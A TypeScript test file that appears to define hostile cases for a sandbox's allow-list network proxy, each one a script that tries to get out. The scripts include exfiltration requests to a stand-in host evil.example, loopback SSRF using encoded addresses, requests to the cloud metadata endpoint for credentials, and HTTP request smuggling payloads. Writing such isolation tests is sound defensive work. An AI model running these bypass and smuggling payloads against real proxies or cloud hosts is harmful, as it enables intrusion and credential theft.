import { attack, type HostileCase } from "../case.ts";
import type { Ground } from "../ground.ts";

/** As isolation.network: allow-list with these entries. `metadata.example` is no server: what it would lead to doesn't matter. */
const ALLOWING = (...hosts: string[]) => ({ network: false, hosts });
const PROXIED = "the only way out is a proxy that knows what is listed";

/** Talks to the proxy as it is said in the environment, byte by byte; prints the status of each answer. */
const TALK = `
const [proxyHost, proxyPort] = (process.env.HTTP_PROXY ?? "").replace("http://", "").split(":");
const talk = (name, text) => new Promise((done) => {
  const socket = net.connect({ host: proxyHost, port: Number(proxyPort) }); let all = "";
  socket.setTimeout(4000, () => socket.destroy());
  socket.on("data", (bytes) => { all += bytes; }).on("error", (e) => { all += e.code; });
  socket.on("close", () => { console.log("ANSWER", name, (all.match(/^HTTP.*$/gm) ?? [all]).join(" then ").slice(0, 200)); if (/SERVED|200/.test(all)) console.log("REACHED", name); done(); });
  socket.write(text); setTimeout(() => socket.end(), 1500);
});
const straight = (name, host, port) => new Promise((done) => net.connect({ host, port, timeout: 3000 }).on("connect", () => { console.log("REACHED", name); process.exit(0); }).on("timeout", function () { console.log("SILENT", name); this.destroy(); done(); }).on("error", (e) => { console.log("REFUSED", name, e.code); done(); }));
`;

function notReached({ log, ground }: { log: string; ground: Ground }): string | undefined {
  if (ground.pageViews() > 0) return "a server of the host was reached";
  return /^REACHED .*/m.exec(log)?.[0];
}

/** Builds that want to send away what they found, on a host with isolation.network: allow-list. */
export const REACHING: readonly HostileCase[] = [
  {
    name: "sends what it found to a server that isn't listed",
    files: () =>
      attack(`${TALK} await talk("evil", "CONNECT evil.example:443 HTTP/1.1\\r\\nHost: evil.example\\r\\n\\r\\n");
        await talk("plain", "POST http://evil.example/ HTTP/1.1\\r\\nHost: registry.example.org\\r\\nContent-Length: 1\\r\\n\\r\\nx");
        await talk("looks alike", "CONNECT registry.example.org.evil.example:443 HTTP/1.1\\r\\n\\r\\n");
        await talk("user", "CONNECT registry.example.org:443@evil.example:443 HTTP/1.1\\r\\n\\r\\n");`),
    isolation: ALLOWING("registry.example.org", "*.example.org"),
    how: PROXIED,
    says: /! refused: evil\.example:443, not in isolation\.hosts/,
    wrong: notReached,
  },
  {
    name: "reaches servers of the host itself",
    files: ({ pagePort }) =>
      attack(`${TALK} for (const host of ["127.0.0.1", "localhost", "::1", "0.0.0.0"]) await straight(host, host, ${pagePort});
        for (const host of ["localhost", "127.0.0.1", "[::1]", "[::ffff:127.0.0.1]", "0.0.0.0", "127.1", "2130706433", "0x7f000001", "localhost."])
          await talk(host, "GET http://" + host + ":${pagePort}/ HTTP/1.1\\r\\nHost: " + host + ":${pagePort}\\r\\n\\r\\n");`),
    isolation: ALLOWING("registry.example.org"),
    how: "loopback is the sandbox's own, and the proxy knows no other names of it",
    says: /REFUSED 127\.0\.0\.1 ECONNREFUSED/,
    wrong: notReached,
  },
  {
    name: "a listed name that leads to the host itself",
    files: ({ pagePort }) =>
      attack(`${TALK} await talk("rebound", "GET http://localhost:${pagePort}/ HTTP/1.1\\r\\nHost: localhost:${pagePort}\\r\\n\\r\\n");
        await talk("tunnel", "CONNECT localhost:${pagePort} HTTP/1.1\\r\\nHost: localhost\\r\\n\\r\\nGET / HTTP/1.1\\r\\nHost: x\\r\\n\\r\\n");`),
    isolation: ({ pagePort }) => ALLOWING(`localhost:${pagePort}`),
    how: "what a name leads to is checked too, and used as it was checked",
    says: /! refused: localhost:\d+, its address .* belongs to no public network/,
    wrong: notReached,
  },
  {
    name: "asks the cloud for the host's credentials",
    files: () =>
      attack(`${TALK} await straight("metadata", "169.254.169.254", 80);
        for (const host of ["169.254.169.254", "[fd00:ec2::254]", "[::ffff:169.254.169.254]", "2852039166", "0xA9FEA9FE", "169.254.43518"])
          await talk(host, "GET http://" + host + "/latest/meta-data/ HTTP/1.1\\r\\nHost: " + host + "\\r\\n\\r\\n");`),
    isolation: ALLOWING("registry.example.org"),
    how: "no route, and no such address at the proxy",
    says: /REFUSED metadata (ENETUNREACH|EHOSTUNREACH)/,
    wrong: notReached,
  },
  {
    name: "goes to addresses instead of names",
    files: () =>
      attack(`${TALK} await straight("address", "1.1.1.1", 443); await straight("address 6", "2606:4700:4700::1111", 443);
        for (const to of ["1.1.1.1:443", "[2606:4700:4700::1111]:443", "16843009:443"]) await talk(to, "CONNECT " + to + " HTTP/1.1\\r\\nHost: registry.example.org\\r\\n\\r\\n");
        const dns = (await import("node:dns")).promises; await dns.resolve4("canary.evil.example").then(() => console.log("REACHED dns"), (e) => console.log("REFUSED dns", e.code));`),
    isolation: ALLOWING("registry.example.org"),
    how: "no route, also to servers of names; addresses must be listed as such",
    says: /! refused: 1\.1\.1\.1:443, not in isolation\.hosts/,
    wrong: notReached,
  },
  {
    name: "smuggles a request to the host's server behind one that is listed",
    files: ({ pagePort }) =>
      attack(`${TALK} const inner = "GET http://127.0.0.1:${pagePort}/ HTTP/1.1\\r\\nHost: 127.0.0.1:${pagePort}\\r\\n\\r\\n";
        const to = "http://registry.example.org/", host = "Host: registry.example.org\\r\\n";
        await talk("both lengths", "POST " + to + " HTTP/1.1\\r\\n" + host + "Content-Length: 4\\r\\nTransfer-Encoding: chunked\\r\\n\\r\\n0\\r\\n\\r\\n" + inner);
        await talk("two lengths", "POST " + to + " HTTP/1.1\\r\\n" + host + "Content-Length: 0\\r\\nContent-Length: 9\\r\\n\\r\\n" + inner);
        await talk("bare newlines", "GET " + to + " HTTP/1.1\\n" + host + "X: y\\n\\n" + inner);
        await talk("other host", "GET " + to + " HTTP/1.1\\r\\nHost: 127.0.0.1:${pagePort}\\r\\n\\r\\n");
        await talk("pipelined", inner + inner);`),
    isolation: ALLOWING("registry.example"),
    how: "messages are read strictly, and made anew",
    says: /ANSWER both lengths HTTP\/1\.1 40[03]/,
    wrong: notReached,
  },
];
